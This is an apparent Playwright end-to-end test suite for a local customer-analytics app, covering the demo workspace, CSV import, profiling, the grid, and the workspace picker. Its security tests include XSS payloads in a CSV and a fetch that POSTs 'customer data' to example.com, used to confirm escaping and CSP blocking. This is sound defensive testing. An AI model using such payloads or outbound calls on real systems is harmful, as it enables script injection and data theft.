// The app as a user meets it, in Debian's Chromium against the browser host: the demo workspace, importing a
// real CSV through the wizard, the profile, the grid, and that nothing leaves 127.0.0.1.
import { existsSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { expect, SHARED_DATA, shot, test } from './fixtures';

const TELCO = join(SHARED_DATA, 'telco-churn', 'WA_Fn-UseC_-Telco-Customer-Churn.csv');

test.describe('demo workspace', () => {
  test.use({ hostOptions: { workspace: null } });

  test('opens with the built-in demo data when no workspace is given', async ({ app }) => {
    await expect(app.getByRole('button', { name: 'Dataset Demo customers' })).toBeVisible();
    await expect(app.getByRole('button', { name: 'Dataset Demo journey events' })).toBeVisible();
    await app.getByRole('button', { name: 'Dataset Demo customers' }).click();
    await expect(app.getByRole('article', { name: 'Column nps_score' })).toBeVisible();
    await shot(app, 'demo-profile-light');
    await app.getByRole('button', { name: 'Switch to dark theme' }).click();
    await shot(app, 'demo-profile-dark');
    await app.getByRole('button', { name: 'Switch to light theme' }).click();
    // Personal data shows no values on its card; ratings count no outliers; dates read as days.
    const name = app.getByRole('article', { name: 'Column name' });
    await expect(name.getByText('Personal data: its values are not shown.')).toBeVisible();
    await expect(app.getByRole('article', { name: 'Column nps_score' }).getByText('Outliers')).toHaveCount(0);
    const range = app.getByRole('article', { name: 'Column signup_date' }).locator('.cxw-kv-item').filter({ hasText: 'Range' });
    await expect(range).toHaveText(/^Range\d{1,2} [A-Z][a-z]{2} \d{4} – \d{1,2} [A-Z][a-z]{2} \d{4}$/);
    // The event log opens without a red error: its repeating id and sparse rating are notes.
    await app.getByRole('button', { name: 'Dataset Demo journey events' }).click();
    await expect(app.getByRole('article', { name: 'Column satisfaction' })).toBeVisible();
    const issues = app.getByRole('region', { name: 'Data quality issues' });
    await expect(issues.getByLabel('Note')).toHaveCount(2);
    await expect(issues.getByLabel('Error')).toHaveCount(0);
    await shot(app, 'demo-events-profile');
    await app.getByRole('button', { name: 'Dataset Demo customers' }).click();
    await app.getByRole('tab', { name: 'Columns' }).click();
    await expect(app.getByLabel('Role of column nps_score')).toHaveValue('nps');
    await shot(app, 'demo-columns');
    await app.getByRole('button', { name: 'Activity log' }).first().click();
    await expect(app.getByText(/Created the built-in demo workspace/)).toBeVisible();
    await shot(app, 'demo-activity-log');
    await app.keyboard.press('Escape');
    // Built views open their set-up; Present opens on the (empty) list of decks. Nothing says "coming next" any more.
    const nav = app.getByRole('navigation', { name: 'Main' });
    for (const view of ['Journeys', 'NPS', 'Audit']) {
      await nav.getByRole('button', { name: view }).click();
      await expect(app.getByRole('button', { name: /^Run/ }).first()).toBeVisible();
      await expect(app.getByText(/coming next/i)).toHaveCount(0);
    }
    await nav.getByRole('button', { name: 'Present' }).click();
    await expect(app.getByText('No decks yet')).toBeVisible();
    await expect(app.getByRole('button', { name: 'New deck' }).first()).toBeVisible();
    await expect(app.getByText(/coming next/i)).toHaveCount(0);
    await shot(app, 'present-no-decks');
  });

  test('importing into the demo asks first: a workspace of your own, or the demo anyway', async ({ app, host }) => {
    const file = join(host.dir, 'real.csv');
    writeFileSync(file, 'customer_id,spend\n1,10\n2,20\n3,35\n');
    const prompt = app.getByRole('group', { name: 'Demo workspace' });
    // "Anyway" goes on to the file step, in the demo.
    await app.getByRole('button', { name: 'Import data' }).first().click();
    await expect(prompt.getByText('You are in the demo workspace. Create a workspace of your own for real data?')).toBeVisible();
    await shot(app, 'demo-import-prompt');
    await app.getByRole('button', { name: 'Import into demo anyway' }).click();
    await expect(app.getByRole('dialog', { name: 'Import data into the demo workspace' })).toBeVisible();
    await expect(app.getByRole('button', { name: 'Choose file…' })).toBeVisible();
    await app.keyboard.press('Escape');
    await expect(app.getByRole('button', { name: 'Choose file…' })).toHaveCount(0);

    // Opened again, it asks again; "Create workspace…" opens the picker in the home folder, not the state folder.
    await app.getByRole('button', { name: 'Import data' }).first().click();
    await expect(prompt).toBeVisible();
    await app.getByRole('button', { name: 'Create workspace…' }).click();
    await expect(app.getByLabel('Workspace path')).toHaveValue(join(homedir(), 'Untitled.cxw'));
    const own = join(host.dir, 'my-data.cxw');
    await app.getByLabel('Workspace path').fill(own);
    await app.getByRole('button', { name: 'Create workspace', exact: true }).click();
    // The wizard carries on in the new workspace, and the import lands there.
    await expect(app.getByRole('dialog', { name: 'Import data into my-data' })).toBeVisible();
    await expect(app.getByRole('banner').getByText('my-data', { exact: true })).toBeVisible();
    await expect(app.getByRole('banner').getByText('Demo', { exact: true })).toHaveCount(0);
    const chooser = app.waitForEvent('filechooser');
    await app.getByRole('button', { name: 'Choose file…' }).click();
    await (await chooser).setFiles(file);
    await app.getByRole('button', { name: 'Commit import' }).click();
    await expect(app.getByRole('heading', { name: 'real' })).toBeVisible({ timeout: 60_000 });
    await expect(app.getByRole('banner').getByText(/^1 dataset ·/)).toBeVisible();
    expect(existsSync(own)).toBe(true);
    // The demo still holds its own five datasets only (customers, journey events, the checkout experiment, two survey waves).
    await app.getByRole('button', { name: 'Workspace menu' }).click();
    await app.getByRole('menuitem', { name: 'Open demo workspace' }).click();
    await expect(app.getByRole('banner').getByText(/^5 datasets ·/)).toBeVisible();
    await expect(app.getByRole('button', { name: 'Dataset real' })).toHaveCount(0);
  });
});

test('imports a real CSV through the wizard, with a type override, then shows its profile and grid', async ({ app }) => {
  test.skip(!existsSync(TELCO), `../shared/data is absent (${TELCO}); this test needs the public Telco churn file`);
  const chooser = app.waitForEvent('filechooser');
  await app.getByRole('button', { name: 'Import data' }).first().click();
  await app.getByRole('button', { name: 'Choose file…' }).click();
  await (await chooser).setFiles(TELCO);
  const type = app.getByLabel('Type of column SeniorCitizen');
  await expect(type).toBeVisible();
  await expect(app.getByLabel('Type of column TotalCharges')).toHaveValue('real');
  await type.selectOption('integer');
  await app.getByLabel('Dataset name').fill('telco');
  await shot(app, 'wizard-review');
  await app.getByRole('button', { name: 'Commit import' }).click();

  const seniors = app.getByRole('article', { name: 'Column SeniorCitizen' });
  await expect(seniors).toBeVisible({ timeout: 60_000 });
  await expect(seniors.getByText('integer')).toBeVisible();
  const total = app.getByRole('article', { name: 'Column TotalCharges' });
  await expect(total.getByText('Missing')).toBeVisible();
  await expect(total.locator('.cxw-kv-item').filter({ hasText: 'Missing' })).toContainText('11');
  await shot(app, 'telco-profile');

  await app.getByRole('tab', { name: 'Data grid' }).click();
  await expect(app.getByTestId('grid-row-count')).toHaveText(/7,043 rows/);
  const grid = app.getByRole('grid', { name: 'Rows of telco' });
  await expect(grid).toHaveAttribute('aria-rowcount', '7044');
  await grid.evaluate((el) => el.scrollTo({ top: el.scrollHeight }));
  await expect(grid.getByRole('rowheader', { name: '7,043', exact: true })).toBeVisible();
  await shot(app, 'telco-grid-bottom');
});

test('a customer name made of HTML renders as text, never as markup', async ({ app, host }) => {
  const file = join(host.dir, 'xss.csv');
  writeFileSync(file, 'customer_id,name,spend\n1,<img src=x onerror=alert(1)>,10\n2,"<script>alert(2)</script>",20\n');
  const chooser = app.waitForEvent('filechooser');
  await app.getByRole('button', { name: 'Import data' }).first().click();
  await app.getByRole('button', { name: 'Choose file…' }).click();
  await (await chooser).setFiles(file);
  await app.getByRole('button', { name: 'Commit import' }).click();
  await app.getByRole('tab', { name: 'Data grid' }).click();
  const grid = app.getByRole('grid');
  await expect(grid.getByText('<img src=x onerror=alert(1)>')).toBeVisible();
  await expect(grid.getByText('<script>alert(2)</script>')).toBeVisible();
  expect(await app.locator('.cxw-grid-body img').count()).toBe(0);
});

test('every request the page makes stays on 127.0.0.1, and the CSP refuses foreign fetches', async ({ app, requests, host }) => {
  for (const view of ['Segments', 'Journeys', 'NPS', 'Audit', 'Present', 'Data']) {
    await app.getByRole('navigation', { name: 'Main' }).getByRole('button', { name: view }).click();
  }
  const attempt = await app.evaluate(async () => {
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'customer data' });
      return 'sent';
    } catch (err) {
      return `blocked: ${String(err)}`;
    }
  });
  expect(attempt).toMatch(/^blocked/);
  expect(requests.length).toBeGreaterThan(3);
  expect(requests.every((u) => u.startsWith(host.origin))).toBe(true);
});

test('an import can be cancelled from the wizard and leaves the workspace as it was', async ({ app, host }) => {
  const { writeCustomersCsv } = await import('../support/synthetic-csv');
  const file = join(host.dir, 'large.csv');
  writeCustomersCsv(file, 1_500_000);
  const chooser = app.waitForEvent('filechooser');
  await app.getByRole('button', { name: 'Import data' }).first().click();
  await app.getByRole('button', { name: 'Choose file…' }).click();
  await (await chooser).setFiles(file);
  await expect(app.getByLabel('Type of column monthly_spend')).toHaveValue('real', { timeout: 60_000 });
  await app.getByRole('button', { name: 'Commit import' }).click();
  // Cancel once the job reports progress, i.e. while rows are being written inside the transaction.
  await expect(app.getByRole('progressbar').first()).toBeVisible();
  await expect(app.getByText(/[1-9]\d*%/).first()).toBeVisible({ timeout: 60_000 });
  await shot(app, 'import-progress');
  await app.getByRole('button', { name: 'Cancel import' }).click();
  await expect(app.getByText('Import cancelled')).toBeVisible({ timeout: 60_000 });
  const list = await app.evaluate(async () => (await fetch('/api/dataset.list', { method: 'POST', body: '{}' })).json());
  expect(list).toEqual({ ok: true, result: [] });
  const log = await app.evaluate(async () => (await fetch('/api/workspace.activity', { method: 'POST', body: '{}' })).json());
  // key.create: the new workspace's pseudonymisation key, kept outside the file (main/workspace/keys.ts).
  expect((log as { result: { action: string }[] }).result.map((e) => e.action)).toEqual(['key.create', 'workspace.create']);
});

test('the browser host has its own workspace picker: new, save as, and open from recent', async ({ app, host }) => {
  const created = join(host.dir, 'client-b.cxw');
  await app.getByRole('button', { name: 'Workspace menu' }).click();
  await app.getByRole('menuitem', { name: 'New workspace…' }).click();
  // The picker starts in the open workspace's folder; typing a file name composes the full path.
  await app.getByLabel('File name').fill('client-b');
  await expect(app.getByLabel('Workspace path')).toHaveValue(created);
  await shot(app, 'picker-new-workspace');
  await app.getByRole('button', { name: 'Create workspace' }).click();
  await expect(app.getByRole('banner').getByText('client-b')).toBeVisible();
  expect(existsSync(created)).toBe(true);

  const copy = join(host.dir, 'client-b-copy.cxw');
  await app.getByRole('button', { name: 'Workspace menu' }).click();
  await app.getByRole('menuitem', { name: 'Save as…' }).click();
  await app.getByLabel('File name').fill('client-b-copy');
  await expect(app.getByLabel('Workspace path')).toHaveValue(copy);
  await app.getByRole('button', { name: 'Save copy' }).click();
  await expect(app.getByRole('banner').getByText('client-b-copy')).toBeVisible();
  expect(existsSync(copy)).toBe(true);

  await app.getByRole('button', { name: 'Workspace menu' }).click();
  await app.getByRole('menuitem', { name: /^client-b\b(?!-copy)/ }).click();
  await expect(app.getByRole('banner').getByText('client-b', { exact: true })).toBeVisible();
});
